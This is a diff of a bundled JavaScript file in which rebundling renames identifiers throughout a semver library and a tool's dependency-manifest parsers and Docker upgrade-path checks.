@@ -43595,19 +49728,19 @@ var require_range = __commonJS({
             ret = `>=${M4}.${m3}.${p2} <${+M4 + 1}.0.0-0`;
           }
         }
-        debug("caret return", ret);
+        debug2("caret return", ret);
         return ret;
       });
     };
     var replaceXRanges = (comp, options2) => {
-      debug("replaceXRanges", comp, options2);
+      debug2("replaceXRanges", comp, options2);
       return comp.split(/\s+/).map((c3) => replaceXRange(c3, options2)).join(" ");
     };
     var replaceXRange = (comp, options2) => {
       comp = comp.trim();
       const r2 = options2.loose ? re2[t2.XRANGELOOSE] : re2[t2.XRANGE];
       return comp.replace(r2, (ret, gtlt, M4, m3, p2, pr2) => {
-        debug("xRange", comp, ret, gtlt, M4, m3, p2, pr2);
+        debug2("xRange", comp, ret, gtlt, M4, m3, p2, pr2);
         if (invalidXRangeOrder(M4, m3, p2)) {
           return comp;
         }
@@ -43657,16 +49790,16 @@ var require_range = __commonJS({
         } else if (xp) {
           ret = `>=${M4}.${m3}.0${pr2} <${M4}.${+m3 + 1}.0-0`;
         }
-        debug("xRange return", ret);
+        debug2("xRange return", ret);
         return ret;
       });
     };
     var replaceStars = (comp, options2) => {
-      debug("replaceStars", comp, options2);
+      debug2("replaceStars", comp, options2);
       return comp.trim().replace(re2[t2.STAR], "");
     };
     var replaceGTE0 = (comp, options2) => {
-      debug("replaceGTE0", comp, options2);
+      debug2("replaceGTE0", comp, options2);
       return comp.trim().replace(re2[options2.includePrerelease ? t2.GTE0PRE : t2.GTE0], "");
     };
     var hyphenReplace = (incPr) => ($0, from3, fM, fm, fp, fpr, fb, to2, tM, tm, tp, tpr) => {
@@ -43704,7 +49837,7 @@ var require_range = __commonJS({
       }
       if (version.prerelease.length && !options2.includePrerelease) {
         for (let i = 0; i < set3.length; i++) {
-          debug(set3[i].semver);
+          debug2(set3[i].semver);
           if (set3[i].semver === Comparator.ANY) {
             continue;
           }
@@ -43741,7 +49874,7 @@ var require_comparator = __commonJS({
           }
         }
         comp = comp.trim().split(/\s+/).join(" ");
-        debug("comparator", comp, options2);
+        debug2("comparator", comp, options2);
         this.options = options2;
         this.loose = !!options2.loose;
         this.parse(comp);
@@ -43750,7 +49883,7 @@ var require_comparator = __commonJS({
         } else {
           this.value = this.operator + this.semver.version;
         }
-        debug("comp", this);
+        debug2("comp", this);
       }
       parse(comp) {
         const r2 = this.options.loose ? re2[t2.COMPARATORLOOSE] : re2[t2.COMPARATOR];
@@ -43772,7 +49905,7 @@ var require_comparator = __commonJS({
         return this.value;
       }
       test(version) {
-        debug("Comparator.test", version, this.options.loose);
+        debug2("Comparator.test", version, this.options.loose);
         if (this.semver === ANY || version === ANY) {
           return true;
         }
@@ -43829,7 +49962,7 @@ var require_comparator = __commonJS({
     var parseOptions = require_parse_options();
     var { safeRe: re2, t: t2 } = require_re();
     var cmp = require_cmp();
-    var debug = require_debug();
+    var debug2 = require_debug();
     var SemVer = require_semver();
     var Range = require_range();
   }
@@ -44409,7 +50542,7 @@ var require_semver2 = __commonJS({
 
 // src/domains/dependencies/versions/npm.ts
 function readRange(text4) {
-  if (text4.length > LONGEST13) return null;
+  if (text4.length > LONGEST17) return null;
   try {
     return new import_semver.default.Range(text4);
   } catch (error) {
@@ -44417,17 +50550,17 @@ function readRange(text4) {
     throw error;
   }
 }
-var import_semver, LONGEST13, npm, versionOf4;
+var import_semver, LONGEST17, npm, versionOf4;
 var init_npm = __esm({
   "src/domains/dependencies/versions/npm.ts"() {
     "use strict";
     import_semver = __toESM(require_semver2(), 1);
     init_scheme();
-    LONGEST13 = 256;
+    LONGEST17 = 256;
     npm = {
       name: "npm",
       parse(text4) {
-        const exact = text4.length > LONGEST13 ? null : import_semver.default.parse(text4);
+        const exact = text4.length > LONGEST17 ? null : import_semver.default.parse(text4);
         if (exact !== null) return versionOf4(exact, true);
         const range3 = readRange(text4);
         const floor = range3 === null || range3.range === "" ? null : import_semver.default.minVersion(range3);
@@ -44454,7 +50587,7 @@ var init_npm = __esm({
 });
 
 // src/domains/dependencies/ecosystems/npm.ts
-var node, PARSERS5, nameOf3, npm2, npm_default;
+var node, PARSERS5, nameOf4, npm2, npm_default;
 var init_npm2 = __esm({
   "src/domains/dependencies/ecosystems/npm.ts"() {
     "use strict";
@@ -44482,15 +50615,15 @@ var init_npm2 = __esm({
       [".nvmrc", node],
       [".node-version", node]
     ]);
-    nameOf3 = (path25) => path25.slice(path25.lastIndexOf("/") + 1);
+    nameOf4 = (path26) => path26.slice(path26.lastIndexOf("/") + 1);
     npm2 = {
       name: "npm",
       versions: npm,
       language: javascript,
-      claims: (path25) => PARSERS5.has(nameOf3(path25)),
-      parse: (text4, path25) => PARSERS5.get(nameOf3(path25))?.(text4) ?? { dependencies: [] },
+      claims: (path26) => PARSERS5.has(nameOf4(path26)),
+      parse: (text4, path26) => PARSERS5.get(nameOf4(path26))?.(text4) ?? { dependencies: [] },
       /** Yarn 1 and the first npm lockfile do not tell what is direct. */
-      manifestsOf: (path25) => /(?:^|\/)(?:yarn\.lock|package-lock\.json|npm-shrinkwrap\.json)$/.test(path25) ? [`${path25.slice(0, -nameOf3(path25).length)}package.json`] : []
+      manifestsOf: (path26) => /(?:^|\/)(?:yarn\.lock|package-lock\.json|npm-shrinkwrap\.json)$/.test(path26) ? [`${path26.slice(0, -nameOf4(path26).length)}package.json`] : []
     };
     npm_default = npm2;
   }
@@ -44655,12 +50788,12 @@ var init_nuget2 = __esm({
       [/(?:^|\/)global\.json$/, parseGlobalJson],
       [/(?:^|\/)dotnet-tools\.json$/, parseDotnetTools]
     ];
-    parserOf4 = (path25) => PARSERS6.find(([pattern]) => pattern.test(path25))?.[1];
+    parserOf4 = (path26) => PARSERS6.find(([pattern]) => pattern.test(path26))?.[1];
     nuget2 = {
       name: "nuget",
       versions: nuget,
-      claims: (path25) => parserOf4(path25) !== void 0,
-      parse: (text4, path25) => parserOf4(path25)?.(text4) ?? { dependencies: [] },
+      claims: (path26) => parserOf4(path26) !== void 0,
+      parse: (text4, path26) => parserOf4(path26)?.(text4) ?? { dependencies: [] },
       /** Names are the same in any case. */
       canonical: (name) => name.toLowerCase()
     };
@@ -45368,12 +51501,12 @@ function byUrl2(text4) {
   const [, repository2, ref] = VERSION_CONTROL.exec(address) ?? [];
   if (repository2 !== void 0) return { written: url2, ...gitReference(repository2, ref) };
   if (/^https?:/.test(address)) {
-    const digest2 = /[#&](sha256=[0-9a-f]{64})/.exec(url2)?.[1];
+    const digest3 = /[#&](sha256=[0-9a-f]{64})/.exec(url2)?.[1];
     return {
       written: url2,
       version: "",
       source: { kind: "http", location: hostOf2(address) },
-      ...digest2 === void 0 ? {} : { digest: digest2.replace("=", ":") }
+      ...digest3 === void 0 ? {} : { digest: digest3.replace("=", ":") }
     };
   }
   return { written: url2, version: "", source: { kind: "file", location: address.replace(/^file:(?:\/\/)?/, "") } };
@@ -45400,15 +51533,15 @@ function parsePreCommit(text4) {
 function repositoryEntry(node2, lines) {
   const [repo, rev] = [textOf3(node2, "repo"), node2.members.get("rev")];
   if (repo === void 0 || OWN2.has(repo) || typeof rev?.value !== "string") return [];
-  const { digest: digest2, version } = gitReference(repo, rev.value);
+  const { digest: digest3, version } = gitReference(repo, rev.value);
   const frozen = /#\s*(?:frozen:\s*)?(v?[0-9][\w.-]*)/.exec(lines[rev.line - 1] ?? "")?.[1];
-  const written3 = digest2 === void 0 || frozen === void 0 ? rev.value : `${rev.value} # frozen: ${frozen}`;
+  const written3 = digest3 === void 0 || frozen === void 0 ? rev.value : `${rev.value} # frozen: ${frozen}`;
   return [
     {
       name: repositoryOf(repo),
       written: written3,
       version: frozen ?? version,
-      digest: digest2,
+      digest: digest3,
       section: "repos",
       scope: "development",
       line: rev.line
@@ -45461,7 +51594,7 @@ var init_pre_commit2 = __esm({
     preCommit = {
       name: "pre-commit",
       versions: tag,
-      claims: (path25) => /(?:^|\/)\.pre-commit-config\.ya?ml$/.test(path25),
+      claims: (path26) => /(?:^|\/)\.pre-commit-config\.ya?ml$/.test(path26),
       parse: parsePreCommit
     };
     pre_commit_default = preCommit;
@@ -45499,7 +51632,7 @@ var init_dart = __esm({
 // src/domains/dependencies/parsers/pubspec.ts
 function parsePubspec(text4) {
   const root = parseYaml(text4);
-  const tables = TABLES3.flatMap(([path25, known3]) => nodesAt(root, path25).map((found) => ({ found, known: known3 })));
+  const tables = TABLES3.flatMap(([path26, known3]) => nodesAt(root, path26).map((found) => ({ found, known: known3 })));
   const dependencies3 = tables.flatMap(
     ({ found: { section: section2, node: node2 }, known: known3 }) => [...node2.members].map(([name, value]) => ({ name, section: section2, ...known3, ...declared2(value) }))
   );
@@ -45507,10 +51640,10 @@ function parsePubspec(text4) {
 }
 function declared2(node2) {
   if (node2.members.size === 0) return { written: typeof node2.value === "string" ? node2.value : null, line: node2.line };
-  const [git2, path25] = [node2.members.get("git"), node2.members.get("path")];
+  const [git2, path26] = [node2.members.get("git"), node2.members.get("path")];
   if (git2 !== void 0) return fromGit(git2);
-  if (path25 === void 0) return fromServer(node2);
-  return { written: null, ...originOf2((key4) => textOf3(node2, key4)), line: path25.line };
+  if (path26 === void 0) return fromServer(node2);
+  return { written: null, ...originOf2((key4) => textOf3(node2, key4)), line: path26.line };
 }
 function fromServer(node2) {
   const url2 = textOf3(node2, "hosted") ?? textOf3(node2.members.get("hosted"), "url");
@@ -45530,7 +51663,7 @@ function locked3({ section: section2, node: node2 }) {
   const description2 = node2.members.get("description");
   const url2 = textOf3(description2, "url");
   const isGit = textOf3(node2, "source") === "git";
-  const { source, digest: digest2 } = isGit ? gitReference(url2 ?? "", textOf3(description2, "resolved-ref")) : {};
+  const { source, digest: digest3 } = isGit ? gitReference(url2 ?? "", textOf3(description2, "resolved-ref")) : {};
   return {
     name: section2.slice("packages.".length),
     written: textOf3(node2, "version") ?? null,
@@ -45538,7 +51671,7 @@ function locked3({ section: section2, node: node2 }) {
     direct: role6.startsWith("direct"),
     scope: role6 === "direct dev" ? "development" : void 0,
     source: source ?? (url2 === void 0 ? void 0 : { kind: "registry", location: hostOf2(url2) }),
-    digest: digest2,
+    digest: digest3,
     line: node2.members.get("version")?.line ?? node2.line
   };
 }
@@ -45576,8 +51709,8 @@ var init_pub = __esm({
       name: "pub",
       versions: pub,
       language: dart,
-      claims: (path25) => /(?:^|\/)pubspec(?:_overrides)?\.ya?ml$/.test(path25) || LOCK5.test(path25),
-      parse: (text4, path25) => LOCK5.test(path25) ? parsePubspecLock(text4) : parsePubspec(text4)
+      claims: (path26) => /(?:^|\/)pubspec(?:_overrides)?\.ya?ml$/.test(path26) || LOCK5.test(path26),
+      parse: (text4, path26) => LOCK5.test(path26) ? parsePubspecLock(text4) : parsePubspec(text4)
     };
     pub_default = pub2;
   }
@@ -45713,7 +51846,7 @@ var init_pipfile = __esm({
 // src/domains/dependencies/parsers/pyproject.ts
 function parsePyproject(text4) {
   const root = parseToml(text4);
-  const within4 = (paths3) => paths3.flatMap(([path25, known3]) => nodesAt(root, path25).map((found) => ({ found, known: known3 })));
+  const within4 = (paths3) => paths3.flatMap(([path26, known3]) => nodesAt(root, path26).map((found) => ({ found, known: known3 })));
   const [lists, tables] = [within4(LISTS2), within4(TABLES4)];
   const sources = new Map(
     nodesAt(root, "tool.uv.sources.*").map(({ section: section2, node: node2 }) => [
@@ -45725,7 +51858,7 @@ function parsePyproject(text4) {
     ...nodesAt(root, "project.requires-python").flatMap(pythonOf),
     ...lists.flatMap(({ found, known: known3 }) => listEntries(found, known3, sources)),
     ...tables.flatMap(({ found, known: known3 }) => tableEntries2(found, known3)).map(asRuntime),
-    ...INDEXES.flatMap((path25) => nodesAt(root, path25)).flatMap(indexEntries)
+    ...INDEXES.flatMap((path26) => nodesAt(root, path26)).flatMap(indexEntries)
   ];
   const sections2 = sectionsOf([...lists, ...tables].map(({ found }) => found));
   return { dependencies: dependencies3.toSorted((a, b3) => a.line - b3.line), sections: sections2 };
@@ -45808,15 +51941,15 @@ function originOf5(table2) {
   const origin2 = tableAt(table2, "source") ?? table2;
   const git2 = stringAt(origin2, "git") ?? (stringAt(origin2, "type") === "git" ? stringAt(origin2, "url") : void 0);
   if (git2 !== void 0) return gitOrigin(git2, stringAt(origin2, "resolved_reference") ?? stringAt(origin2, "revision"));
-  const path25 = stringAt(origin2, "directory") ?? stringAt(origin2, "path");
-  if (path25 !== void 0) return { source: { kind: "file", location: path25 } };
+  const path26 = stringAt(origin2, "directory") ?? stringAt(origin2, "path");
+  if (path26 !== void 0) return { source: { kind: "file", location: path26 } };
   const url2 = stringAt(origin2, "registry") ?? stringAt(origin2, "url");
   return { source: { kind: "registry", location: url2 === void 0 ? PYPI : hostOf2(url2) } };
 }
 function gitOrigin(git2, revision) {
   const [address = "", commit2] = git2.split("#", 2);
-  const { source, digest: digest2 } = gitReference(address.replace(/\?.*$/, ""), revision ?? commit2);
-  return { ...source ? { source } : {}, ...digest2 === void 0 ? {} : { digest: digest2 } };
+  const { source, digest: digest3 } = gitReference(address.replace(/\?.*$/, ""), revision ?? commit2);
+  return { ...source ? { source } : {}, ...digest3 === void 0 ? {} : { digest: digest3 } };
 }
 var PYPI, requiredBy3;
 var init_python_lock = __esm({
@@ -45833,14 +51966,14 @@ var init_python_lock = __esm({
 });
 
 // src/domains/dependencies/parsers/requirements.ts
-function parseRequirements(text4, path25) {
+function parseRequirements(text4, path26) {
   const isLock = /^#.*\b(?:autogenerated by (?:pip-compile|uv)|pip-compile|uv pip compile)\b/m.test(
     text4.slice(0, 2e3)
   );
   const known3 = {
     section: "",
-    scope: scopeOf3(path25),
-    .../(?:^|[/._-])constraints?[/._-]/.test(path25) ? { role: "override" } : {}
+    scope: scopeOf3(path26),
+    .../(?:^|[/._-])constraints?[/._-]/.test(path26) ? { role: "override" } : {}
   };
   const dependencies3 = logicalLines(text4).flatMap((logical) => entriesOf5(logical, known3, isLock));
   return isLock ? { dependencies: dependencies3, lockfile: true } : { dependencies: dependencies3 };
@@ -45868,11 +52001,11 @@ function splitComment2(raw) {
 function entriesOf5(logical, known3, isLock) {
   const { text: text4, line: line2 } = logical;
   if (text4.startsWith("-")) return optionEntries(text4, line2, known3);
-  const bare3 = text4.replace(/\s--?(?:hash|global-option|install-option|config-settings?)[\s=].*$/, "").trim();
-  const requirement2 = isAddress(bare3) ? void 0 : parseRequirement(bare3);
+  const bare4 = text4.replace(/\s--?(?:hash|global-option|install-option|config-settings?)[\s=].*$/, "").trim();
+  const requirement2 = isAddress(bare4) ? void 0 : parseRequirement(bare4);
   if (requirement2 !== void 0) return [{ ...requirement2, ...known3, line: line2, ...isLock ? directness(logical) : {} }];
-  if (!isAddress(bare3)) throw new Unreadable(`line ${line2}: it is no requirement`, line2);
-  return [{ name: nameOfAddress(bare3), ...byUrl2(bare3), ...known3, line: line2 }];
+  if (!isAddress(bare4)) throw new Unreadable(`line ${line2}: it is no requirement`, line2);
+  return [{ name: nameOfAddress(bare4), ...byUrl2(bare4), ...known3, line: line2 }];
 }
 function optionEntries(text4, line2, known3) {
   const [, option2 = "", value = ""] = /^(-[A-Za-z]|--[a-z-]+)[\s=]*(.*)$/.exec(text4) ?? [];
@@ -45897,8 +52030,8 @@ var init_requirements = __esm({
     init_errors();
     init_git_reference();
     init_pep508();
-    scopeOf3 = (path25) => /(?:^|[/._-])(?:dev|develop|development|tests?|testing|lint|linting|docs?|ci|typing|mypy|benchmarks?)(?:[/._-]|$)/.test(
-      path25
+    scopeOf3 = (path26) => /(?:^|[/._-])(?:dev|develop|development|tests?|testing|lint|linting|docs?|ci|typing|mypy|benchmarks?)(?:[/._-]|$)/.test(
+      path26
     ) ? "development" : "production";
     isAddress = (text4) => /^(?:[a-z+]+:\/\/|file:|git\+|\.{0,2}[\\/])/.test(text4) || /^[^\s@]+\.(?:whl|zip|tar\.gz|tar\.bz2)(?:\s|#|;|$)/.test(text4);
     nameOfAddress = (address) => /[#&]egg=([\w.-]+)/.exec(address)?.[1] ?? address.replace(/[#?].*$/, "").replace(/(?<=.)@[^@/]*$/, "").replace(/\/+$/, "").replace(/^.*[\\/](?=.)/, "").replace(/\.git$/, "");
@@ -45948,7 +52081,7 @@ var init_setup_cfg = __esm({
 });
 
 // src/domains/dependencies/ecosystems/pypi.ts
-var REQUIREMENTS, PARSERS7, nameOf4, besides, pypi, pypi_default;
+var REQUIREMENTS, PARSERS7, nameOf5, besides, pypi, pypi_default;
 var init_pypi = __esm({
   "src/domains/dependencies/ecosystems/pypi.ts"() {
     "use strict";
@@ -45972,18 +52105,18 @@ var init_pypi = __esm({
       ["setup.cfg", parseSetupCfg],
       [".python-version", (text4) => versionFile("python", text4)]
     ]);
-    nameOf4 = (path25) => path25.slice(path25.lastIndexOf("/") + 1);
-    besides = (path25, name) => path25.slice(0, path25.lastIndexOf("/") + 1) + name;
+    nameOf5 = (path26) => path26.slice(path26.lastIndexOf("/") + 1);
+    besides = (path26, name) => path26.slice(0, path26.lastIndexOf("/") + 1) + name;
     pypi = {
       name: "pypi",
       versions: pep440,
       language: python,
-      claims: (path25) => PARSERS7.has(nameOf4(path25)) || REQUIREMENTS.test(path25),
-      parse: (text4, path25) => (PARSERS7.get(nameOf4(path25)) ?? ((content) => parseRequirements(content, path25)))(text4),
+      claims: (path26) => PARSERS7.has(nameOf5(path26)) || REQUIREMENTS.test(path26),
+      parse: (text4, path26) => (PARSERS7.get(nameOf5(path26)) ?? ((content) => parseRequirements(content, path26)))(text4),
       canonical: normalName,
-      manifestsOf(path25) {
-        if (nameOf4(path25) === "Pipfile.lock") return [besides(path25, "Pipfile")];
-        return path25.endsWith(".lock") ? [besides(path25, "pyproject.toml")] : [path25.replace(/\.txt$/, ".in")];
+      manifestsOf(path26) {
+        if (nameOf5(path26) === "Pipfile.lock") return [besides(path26, "Pipfile")];
+        return path26.endsWith(".lock") ? [besides(path26, "pyproject.toml")] : [path26.replace(/\.txt$/, ".in")];
       }
     };
     pypi_default = pypi;
@@ -46074,9 +52207,9 @@ var init_swift = __esm({
     swift2 = {
       name: "swift",
       versions: swift,
-      claims: (path25) => /(?:^|\/)Package(?:@swift-[\w.]+)?\.swift$/.test(path25) || RESOLVED.test(path25),
-      parse: (text4, path25) => RESOLVED.test(path25) ? parseSwiftResolved(text4) : parseSwiftPackage(text4),
-      manifestsOf: (path25) => [path25.replace(/resolved$/, "swift")]
+      claims: (path26) => /(?:^|\/)Package(?:@swift-[\w.]+)?\.swift$/.test(path26) || RESOLVED.test(path26),
+      parse: (text4, path26) => RESOLVED.test(path26) ? parseSwiftResolved(text4) : parseSwiftPackage(text4),
+      manifestsOf: (path26) => [path26.replace(/resolved$/, "swift")]
     };
     swift_default = swift2;
   }
@@ -46177,7 +52310,7 @@ var init_hcl = __esm({
 
 // src/domains/dependencies/parsers/terraform.ts
 function parseTerraform(text4) {
-  const dependencies3 = [...blocksOf(parseHcl(text4))].flatMap(([path25, block3]) => entriesOf7(path25.split("\n"), block3));
+  const dependencies3 = [...blocksOf(parseHcl(text4))].flatMap(([path26, block3]) => entriesOf7(path26.split("\n"), block3));
   return { dependencies: dependencies3.toSorted((a, b3) => a.line - b3.line) };
 }
 function parseTerraformLock(text4) {
@@ -46189,9 +52322,9 @@ function parseTerraformLock(text4) {
 function blocksOf(attributes) {
   const blocks5 = /* @__PURE__ */ new Map();
   for (const attribute of attributes) {
-    const path25 = attribute.path.join("\n");
-    const block3 = blocks5.get(path25) ?? /* @__PURE__ */ new Map();
-    blocks5.set(path25, block3.set(attribute.name, attribute));
+    const path26 = attribute.path.join("\n");
+    const block3 = blocks5.get(path26) ?? /* @__PURE__ */ new Map();
+    blocks5.set(path26, block3.set(attribute.name, attribute));
   }
   return blocks5;
 }
@@ -46263,11 +52396,11 @@ var init_terraform2 = __esm({
     terraform2 = {
       name: "terraform-provider",
       versions: terraform,
-      claims: (path25) => CONFIGURATION2.test(path25) || LOCK6.test(path25),
-      parse: (text4, path25) => LOCK6.test(path25) ? parseTerraformLock(text4) : parseTerraform(text4),
-      manifestsOf(path25) {
-        if (!LOCK6.test(path25)) return [];
-        const folder = path25.slice(0, path25.lastIndexOf("/") + 1);
+      claims: (path26) => CONFIGURATION2.test(path26) || LOCK6.test(path26),
+      parse: (text4, path26) => LOCK6.test(path26) ? parseTerraformLock(text4) : parseTerraform(text4),
+      manifestsOf(path26) {
+        if (!LOCK6.test(path26)) return [];
+        const folder = path26.slice(0, path26.lastIndexOf("/") + 1);
         return ["versions.tf", "main.tf", "providers.tf", "terraform.tf"].map((name) => folder + name);
       }
     };
@@ -46318,18 +52451,18 @@ var init_tool_versions = __esm({
 });
 
 // src/domains/dependencies/versions/tool.ts
-var FULL3, LONGEST14, tool2;
+var FULL3, LONGEST18, tool2;
 var init_tool = __esm({
   "src/domains/dependencies/versions/tool.ts"() {
     "use strict";
     init_numbered();
     init_precedence();
     FULL3 = 3;
-    LONGEST14 = 256;
+    LONGEST18 = 256;
     tool2 = {
       name: "tool",
       parse(text4) {
-        if (text4.length > LONGEST14) return void 0;
+        if (text4.length > LONGEST18) return void 0;
         const version = text4.replace(/^[^0-9]*/, "");
         const numbers = releaseNumbers(version);
         if (numbers === void 0) return void 0;
@@ -46356,12 +52489,12 @@ var init_tool2 = __esm({
       [/(?:^|\/)\.java-version$/, (text4) => versionFile("java", text4)],
       [/(?:^|\/)\.bazelversion$/, (text4) => versionFile("bazel", text4)]
     ];
-    parserOf5 = (path25) => PARSERS8.find(([pattern]) => pattern.test(path25))?.[1];
+    parserOf5 = (path26) => PARSERS8.find(([pattern]) => pattern.test(path26))?.[1];
     tool3 = {
       name: "tool",
       versions: tool2,
-      claims: (path25) => parserOf5(path25) !== void 0,
-      parse: (text4, path25) => parserOf5(path25)?.(text4) ?? { dependencies: [] }
+      claims: (path26) => parserOf5(path26) !== void 0,
+      parse: (text4, path26) => parserOf5(path26)?.(text4) ?? { dependencies: [] }
     };
     tool_default = tool3;
   }
@@ -46618,11 +52751,11 @@ function foldersUp(folder) {
   );
 }
 async function manifestsAt(tree2, paths3, ecosystem) {
-  const texts2 = await Promise.all(paths3.map(async (path25) => ({ path: path25, text: await textAt2(tree2, path25) })));
-  return texts2.flatMap(({ path: path25, text: text4 }) => text4 === void 0 ? [] : parsed2(text4, path25, ecosystem) ?? []);
+  const texts2 = await Promise.all(paths3.map(async (path26) => ({ path: path26, text: await textAt2(tree2, path26) })));
+  return texts2.flatMap(({ path: path26, text: text4 }) => text4 === void 0 ? [] : parsed2(text4, path26, ecosystem) ?? []);
 }
-async function textAt2(tree2, path25) {
-  return orNone(() => tree2.read(path25));
+async function textAt2(tree2, path26) {
+  return orNone(() => tree2.read(path26));
 }
 async function orNone(read4) {
   try {
@@ -46632,9 +52765,9 @@ async function orNone(read4) {
     throw error;
   }
 }
-function parsed2(text4, path25, ecosystem) {
+function parsed2(text4, path26, ecosystem) {
   try {
-    return ecosystem.parse(text4, path25);
+    return ecosystem.parse(text4, path26);
   } catch (error) {
     if (error instanceof Unreadable) return void 0;
     throw error;
@@ -46645,7 +52778,7 @@ var init_manifests = __esm({
   "src/domains/dependencies/manifests.ts"() {
     "use strict";
     init_errors();
-    folderOf = (path25) => path25.slice(0, path25.lastIndexOf("/") + 1);
+    folderOf = (path26) => path26.slice(0, path26.lastIndexOf("/") + 1);
   }
 });
 
@@ -46666,39 +52799,39 @@ var init_path = __esm({
 });
 
 // src/domains/dependencies/upgrade-paths/assess.ts
-function assess(path25, from3, to2) {
-  const range3 = path25.badRanges?.find((bad2) => isWithin3(bad2, to2));
-  const step3 = from3 && stepHazard(path25, from3, to2);
+function assess(path26, from3, to2) {
+  const range3 = path26.badRanges?.find((bad2) => isWithin3(bad2, to2));
+  const step3 = from3 && stepHazard(path26, from3, to2);
   if (range3 === void 0) return step3 ? [step3] : [];
   const bad = { kind: "bad-release", range: range3 };
   return step3 && step3.kind !== "in-order" ? [bad, step3] : [bad];
 }
-function stepHazard(path25, from3, to2) {
-  const order2 = compareReleases(to2.slice(0, path25.line), from3.slice(0, path25.line));
+function stepHazard(path26, from3, to2) {
+  const order2 = compareReleases(to2.slice(0, path26.line), from3.slice(0, path26.line));
   if (order2 === 0) return void 0;
-  return order2 < 0 ? downgrade(path25, from3, to2) : upgrade(path25, from3, to2);
+  return order2 < 0 ? downgrade(path26, from3, to2) : upgrade(path26, from3, to2);
 }
-function downgrade(path25, from3, to2) {
-  if (path25.downgrade === void 0) return void 0;
+function downgrade(path26, from3, to2) {
+  if (path26.downgrade === void 0) return void 0;
   const oneMinor = from3[0] === to2[0] && (from3[1] ?? 0) - (to2[1] ?? 0) === 1;
-  const least = path25.minTo?.[lineOf3(path25, to2)];
+  const least = path26.minTo?.[lineOf3(path26, to2)];
   const reachable = least === void 0 || compareReleases(to2, release3(least)) >= 0;
-  const possible = path25.downgrade === "one-minor" && oneMinor && reachable;
+  const possible = path26.downgrade === "one-minor" && oneMinor && reachable;
   return { kind: "downgrade", possible, ...least === void 0 ? {} : { least } };
 }
-function upgrade(path25, from3, to2) {
-  const over = skipped(path25, from3, to2);
-  if (over.length > 0) return { kind: "skipped", over, legs: legsOver(path25, over, to2) };
-  const least = leastStart(path25, from3, to2);
+function upgrade(path26, from3, to2) {
+  const over = skipped(path26, from3, to2);
+  if (over.length > 0) return { kind: "skipped", over, legs: legsOver(path26, over, to2) };
+  const least = leastStart(path26, from3, to2);
   if (least !== void 0 && compareReleases(from3, release3(least)) < 0) return { kind: "start-too-old", least };
-  const turn = turnBetween(path25, from3, to2);
+  const turn = turnBetween(path26, from3, to2);
   if (turn) return { kind: "turn", turn };
-  return path25.checklist === void 0 ? void 0 : { kind: "in-order" };
+  return path26.checklist === void 0 ? void 0 : { kind: "in-order" };
 }
-function skipped(path25, from3, to2) {
-  const stops = path25.stops ?? [];
-  if (from3[0] === to2[0] && path25.maxMinorStep !== void 0) return minorsOver(path25.maxMinorStep, from3, to2);
-  if (path25.maxMajorStep !== void 0) return between(from3[0] ?? 0, to2[0] ?? 0, path25.maxMajorStep).map(String);
+function skipped(path26, from3, to2) {
+  const stops = path26.stops ?? [];
+  if (from3[0] === to2[0] && path26.maxMinorStep !== void 0) return minorsOver(path26.maxMinorStep, from3, to2);
+  if (path26.maxMajorStep !== void 0) return between(from3[0] ?? 0, to2[0] ?? 0, path26.maxMajorStep).map(String);
   return stops.filter((stop) => compareReleases(from3, release3(stop)) < 0 && compareReleases(release3(stop), to2) < 0);
 }
 function minorsOver(step3, [major, minor], [, toMinor]) {
@@ -47050,11 +53183,11 @@ var init_databases = __esm({
 // src/domains/dependencies/upgrade-paths/images.ts
 function withoutHost(image) {
   const hub = image.replace(DOCKER_HUB, "");
-  const bare3 = hub.replace(MIRROR, "");
-  return bare3.includes("/") || /\/library\//.test(hub) ? bare3 : hub;
+  const bare4 = hub.replace(MIRROR, "");
+  return bare4.includes("/") || /\/library\//.test(hub) ? bare4 : hub;
 }
-function releaseOf2(path25, tag2, version) {
-  const text4 = path25.tag ? path25.tag.exec(tag2 ?? "")?.[1] : version;
+function releaseOf2(path26, tag2, version) {
+  const text4 = path26.tag ? path26.tag.exec(tag2 ?? "")?.[1] : version;
   const numbers = release3(text4 ?? "");
   return numbers.length === 0 ? void 0 : numbers;
 }
@@ -47069,20 +53202,20 @@ var init_images = __esm({
     UPGRADE_PATHS = [...CLUSTERS, ...DATABASES, ...APPLICATIONS];
     DOCKER_HUB = /^(?:(?:registry-1\.|index\.)?docker\.io\/)?(?:library\/)?/;
     MIRROR = /^[^/]+\.[^/]*\/(?:(?:.*\/)?library\/)?/;
-    byImage = new Map(UPGRADE_PATHS.flatMap((path25) => path25.images.map((image) => [withoutHost(image), path25])));
+    byImage = new Map(UPGRADE_PATHS.flatMap((path26) => path26.images.map((image) => [withoutHost(image), path26])));
     pathOf3 = (image) => byImage.get(withoutHost(image));
   }
 });
 
 // src/domains/dependencies/upgrade-paths/hazards.ts
 function hazardsOf(change2) {
-  const path25 = change2.ecosystem === "docker" ? pathOf3(change2.name) : void 0;
-  if (path25 === void 0 || change2.head === null) return [];
-  const from3 = isSameProduct(path25, change2) ? releaseOf2(path25, change2.from, change2.base?.version ?? null) : void 0;
-  const to2 = releaseOf2(path25, change2.to, change2.head.version);
+  const path26 = change2.ecosystem === "docker" ? pathOf3(change2.name) : void 0;
+  if (path26 === void 0 || change2.head === null) return [];
+  const from3 = isSameProduct(path26, change2) ? releaseOf2(path26, change2.from, change2.base?.version ?? null) : void 0;
+  const to2 = releaseOf2(path26, change2.to, change2.head.version);
   if (to2 === void 0) return [];
-  const lines = { path: path25, fromLine: from3 ? lineOf3(path25, from3) : "", toLine: lineOf3(path25, to2) };
-  return assess(path25, from3, to2).map((hazard) => ({ ...hazard, ...lines }));
+  const lines = { path: path26, fromLine: from3 ? lineOf3(path26, from3) : "", toLine: lineOf3(path26, to2) };
+  return assess(path26, from3, to2).map((hazard) => ({ ...hazard, ...lines }));
 }
 function hazardOf(change2, kind) {
   return hazardsOf(change2).find((hazard) => hazard.kind === kind);
@@ -47094,15 +53227,15 @@ var init_hazards = __esm({
     init_assess();
     init_images();
     init_path();
-    isSameProduct = (path25, { name, fromName }) => pathOf3(fromName ?? name)?.product === path25.product;
+    isSameProduct = (path26, { name, fromName }) => pathOf3(fromName ?? name)?.product === path26.product;
     about2 = (kind, say2) => (change2) => {
       const hazard = hazardOf(change2, kind);
       return hazard === void 0 ? "" : say2(hazard, change2);
     };
     IMAGE_KINDS = ["major", "minor", "patch", "downgrade", "moved", "replaced", "pinned", "unpinned"];
-    stepWords = ({ path: path25 }, { from: from3, to: to2 }) => `${path25.product} goes from \`${withoutDigest(from3)}\` to \`${withoutDigest(to2)}\``;
